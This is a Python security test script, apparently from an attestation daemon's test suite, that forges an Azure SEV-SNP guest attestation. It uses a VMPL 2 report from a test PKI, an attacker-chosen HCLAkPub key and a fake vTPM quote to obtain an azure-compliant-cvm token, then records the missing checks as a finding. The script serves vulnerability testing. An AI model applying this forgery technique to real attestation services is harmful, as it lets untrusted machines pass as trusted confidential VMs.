"""AzureGuest trusts any SEV-SNP report as the paravisor's: no check that the report was asked
for at VMPL 0 (where Azure's HCL runs; trustee requires it, and attestd's own SevSnpVm default
policy issues azure-compliant-cvm only for VMPL 0 without a migration agent), nor of the
migration-agent policy bit. Code that runs at VMPL 1-3 (the guest OS under the paravisor) or any
SNP guest at all can put SHA-256 of its own "runtime data" into REPORT_DATA, name its own
software key HCLAkPub there, and sign a fake vTPM quote over any PCR values (a clean boot) with
it. Result: a signed azurevm token with x-ms-compliance-status azure-compliant-cvm, secureboot
true and the attacker's PCRs. Hardware evidence comes from the AMD test PKI
(tests/tools/amd_testpki, trusted with amd_trust_anchors) since real hardware is not at hand;
the daemon logic is the one under test. Expected: refuse a report whose VMPL is not 0 (and one
allowing a migration agent), or at least never call it azure-compliant-cvm."""
import subprocess
from common import *

API = "?api-version=2020-10-01"
AMD_TESTPKI = os.path.join(h.BUILD, "tests", "tools", "amd_testpki")
tmp = tempfile.mkdtemp(prefix="attack-azure-")
d = None
try:
    ak = SoftAK()  # the attacker's "HCLAkPub"
    jwk = dict(ak.jwk(), kid="HCLAkPub", key_ops=["sign"])
    runtime = json.dumps({"keys": [jwk], "vm-configuration": {
        "secure-boot": True, "tpm-enabled": True, "console-enabled": False,
        "vmUniqueId": "00000000-0000-0000-0000-0000000A77AC"}}).encode()
    rd = hashlib.sha256(runtime).hexdigest() + "00" * 32
    out = os.path.join(tmp, "pki")
    subprocess.run([AMD_TESTPKI, "--out", out, "--time", str(int(time.time())), "--report-data", rd,
                    "--vmpl", "2", "--policy", hex(0x70000)], check=True, env=h.san_env(),
                   stdout=subprocess.PIPE, timeout=120)
    rd_file = lambda n: open(os.path.join(out, n), "rb").read()
    bundle = os.path.join(out, "bundle.json")
    with open(bundle, "w") as f:
        json.dump({"amd": [{"product": "Milan", "chain": "vcek",
                            "cert_chain": rd_file("kds_chain.pem").decode(),
                            "crl": rd_file("crl.der").hex()}]}, f)
    d = h.Daemon(config=f"amd_trust_anchors = {os.path.join(out, 'ark.pem')}\n")
    d.attestctl("collateral", "import", bundle)

    # golden PCRs of the attacker's choice, quoted by the attacker's key
    m = SoftMachine()
    nonce = os.urandom(16)
    sel = ((ALG_SHA256, 0xFFFFFF),)
    q = quote_bytes(nonce, pcr_digest(m.pcr, sel), sel)
    sig = ak.key.sign(q, padding.PKCS1v15(), hashes.SHA256())
    proof = {"SnpReport": b64u(rd_file("report.bin")), "VcekCertChain": b64(rd_file("chain.pem"))}
    info = {"AttestationProtocolVersion": "2.0", "OSType": b64(b"Windows"),
            "IsolationInfo": {"Type": "SevSnp", "Evidence": {
                "Proof": b64(json.dumps(proof).encode()), "RunTimeData": b64(runtime)}},
            "TpmInfo": {"PcrQuote": b64(q), "PcrSignature": b64(sig),
                        "PCRs": [{"Index": i, "Digest": b64(v)} for i, v in m.pcr[ALG_SHA256].items()]}}
    st, doc, dt = post(d, "/attest/AzureGuest" + API, {"attestationInfo": b64(json.dumps(info).encode()),
                                                        "nonce": nonce.hex()})
    print("  VMPL 2 + migration agent, own HCLAkPub:", describe(st, doc, dt))
    if st == 200:
        c = h.decode_jwt(doc["token"])[1]
        tee = c["x-ms-isolation-tee"]
        print(f"  token: vmpl={tee.get('x-ms-sevsnpvm-vmpl')} migration={tee.get('x-ms-sevsnpvm-migration-allowed')} "
              f"compliance={tee.get('x-ms-compliance-status')} secureboot={c.get('secureboot')} "
              f"vmid={c.get('x-ms-azurevm-vmid')}")
        finding("/attest/AzureGuest: SNP report from VMPL 2 with a migration agent, runtime data naming the "
                "attacker's own HCLAkPub, fake vTPM quote -> 200, x-ms-compliance-status="
                f"{tee.get('x-ms-compliance-status')}, secureboot={c.get('secureboot')} "
                "(src/evidence/azure/azure.c: no VMPL 0 / migration check; azure_claims issues "
                "azure-compliant-cvm whenever not debuggable)")
    else:
        ok(f"VMPL 2 report refused: {inner(doc)}")
    # contrast: the same report on /attest/SevSnpVm does not get azure-compliant-cvm
    st, doc, dt = post(d, "/attest/SevSnpVm?api-version=2022-08-01",
                       {"report": b64u(json.dumps(proof).encode()),
                        "runtimeData": {"data": b64u(runtime), "dataType": "JSON"}})
    if st == 200:
        c = h.decode_jwt(doc["token"])[1]
        print(f"  same report on /attest/SevSnpVm: x-ms-compliance-status={c.get('x-ms-compliance-status')}")
finally:
    shutil.rmtree(tmp, ignore_errors=True)
    finish(d)
